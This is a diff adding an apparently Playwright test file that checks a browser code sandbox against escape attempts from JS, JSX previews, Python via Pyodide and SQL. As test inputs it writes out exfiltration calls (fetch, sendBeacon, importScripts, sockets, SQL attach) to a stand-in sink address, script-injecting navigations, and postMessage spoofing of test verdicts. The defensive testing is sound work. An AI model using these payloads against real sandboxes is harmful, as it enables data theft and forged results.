@@ -1,0 +1,120 @@
+import { expect, test } from "./attacked-page.ts";
+import { previewAttacks, tryEach, workerAttacks } from "./hostile-programs.ts";
+import { blankFrames, nestedScripts, takeWindow } from "./webrtc-programs.ts";
+
+test("a program cannot reach the network, the site or its data", async ({ attack, site, sink }) => {
+  const attacks = workerAttacks({ site: site.origin, sink: sink.port });
+  expect(await attack({ code: tryEach(attacks, 600) })).toMatchObject({
+    kind: "finished",
+    output: [{ text: `tried ${attacks.length}` }],
+  });
+});
+
+test("nor can a preview, which has a document", async ({ attack, site, sink }) => {
+  const attacks = previewAttacks({ site: site.origin, sink: sink.port });
+  for (let index = 0; index < attacks.length; index += 12) {
+    const some = attacks.slice(index, index + 12);
+    const code = `export default () => null;\nconst attack = async () => {${tryEach(some, 300)}};`;
+    const result = await attack({ language: "jsx", code, tests: ["await attack();"] });
+    expect(result).toMatchObject({
+      output: [{ text: `tried ${some.length}` }],
+      tests: [{ passed: true }],
+    });
+  }
+});
+
+for (const language of ["python", "sql"]) {
+  test(`nor can a program in ${language}`, async ({ attack, site, sink }) => {
+    const addresses = [`http://127.0.0.1:${sink.port}/`, `${site.origin}/a`];
+    const python = addresses.map(
+      (address) => `
+import js, socket, pyodide.http
+for call in [
+    lambda: js.eval("fetch('${address}').catch(() => 0)"),
+    lambda: js.eval("importScripts('${address}')"),
+    lambda: js.eval("navigator.sendBeacon('${address}')"),
+    lambda: js.eval("import('${address}').catch(() => 0)"),
+    lambda: js.XMLHttpRequest.new().open("GET", "${address}", False),
+    lambda: pyodide.http.open_url("${address}"),
+    lambda: socket.create_connection(("127.0.0.1", ${sink.port})).send(b"x"),
+    lambda: js.postMessage({"kind": "finished"}),
+]:
+    try: call()
+    except BaseException: pass`,
+    );
+    const sql = `attach database 'http://127.0.0.1:${sink.port}/' as outside; select load_extension('a');`;
+    const code = language === "sql" ? sql : python.join("\n");
+    const { kind } = await attack({ language, code });
+    expect(kind).toBe(language === "sql" ? "error" : "finished");
+  });
+}
+
+const navigations = [
+  "document.body.innerHTML = '<meta http-equiv=refresh content=\"0;url=' + OUTSIDE + '\">'",
+  "location.href = OUTSIDE",
+  "location.href = SITE + '/a'",
+  "location.replace('data:text/html,<script>fetch(\"' + OUTSIDE + '\")</script>')",
+  "location.href = URL.createObjectURL(new Blob(['<script src=' + OUTSIDE + '></script>'], { type: 'text/html' }))",
+  "document.open(); document.write('<img src=' + OUTSIDE + '><script src=' + OUTSIDE + '></script>'); document.close()",
+];
+
+for (const navigation of navigations) {
+  test(`a preview that navigates loads nothing: ${navigation}`, async ({ attack, site, sink }) => {
+    const addresses = `const OUTSIDE = "http://127.0.0.1:${sink.port}/", SITE = "${site.origin}";`;
+    const wait = "await new Promise((resolve) => setTimeout(resolve, 400));";
+    await attack({
+      language: "jsx",
+      code: `${addresses}\n${navigation};\nexport default () => null;`,
+      tests: [wait],
+    });
+    expect(await attack({ code: "console.log(1)" })).toMatchObject({ kind: "finished" });
+  });
+}
+
+test("WebRTC is out of reach, also through blank frames", async ({ attack, sink }) => {
+  const wait = "await new Promise((resolve) => setTimeout(resolve, 300));";
+  for (const window of blankFrames) {
+    const code = takeWindow(window, sink.port);
+    const result = await attack({ language: "jsx", code, tests: [wait] });
+    expect([window, result]).toEqual([
+      window,
+      expect.objectContaining({
+        output: [{ stream: "out", text: expect.stringMatching(/Error$/) }],
+      }),
+    ]);
+  }
+});
+
+for (const [what, attackBy] of Object.entries(nestedScripts)) {
+  test(`WebRTC is out of reach of a nested frame that runs ${what}`, async ({ attack, sink }) => {
+    const wait = "await new Promise((resolve) => setTimeout(resolve, 800));";
+    const code = attackBy(sink.port);
+    const result = await attack({ language: "jsx", code, tests: [wait] });
+    expect(result).toMatchObject({ kind: "finished", tests: [{ passed: true }] });
+  });
+}
+
+test("a verdict without the key of the run is no verdict", async ({ attack }) => {
+  const verdict = `{ kind: "finished", truncated: false, tests: [{ passed: true }] }`;
+  const worker = `postMessage(${verdict});
+self.postMessage = () => {};
+onmessage = ({ data }) => postMessage({ ...data, ...${verdict} });
+addEventListener("message", ({ data }) => console.log(data));
+Promise.prototype.then.call(Promise.resolve(), () => postMessage(${verdict}));`;
+  expect(await attack({ code: worker, tests: ["expect(1).toBe(2);"] })).toMatchObject({
+    tests: [{ passed: false }],
+  });
+  const preview = `
+const result = { kind: "result", id: 1, result: { ...${verdict}, output: [] } };
+for (let id = 0; id < 5; id++) parent.postMessage({ ...result, id }, "*");
+const { postMessage } = MessagePort.prototype;
+MessagePort.prototype.postMessage = function (message, ...more) {
+  if (message) console.log("taken", message);
+  return postMessage.call(this, message, ...more);
+};
+onmessage = () => console.log("message");
+export default () => null;`;
+  expect(
+    await attack({ language: "jsx", code: preview, tests: ["expect(1).toBe(2);"] }),
+  ).toMatchObject({ output: [], tests: [{ passed: false }] });
+});
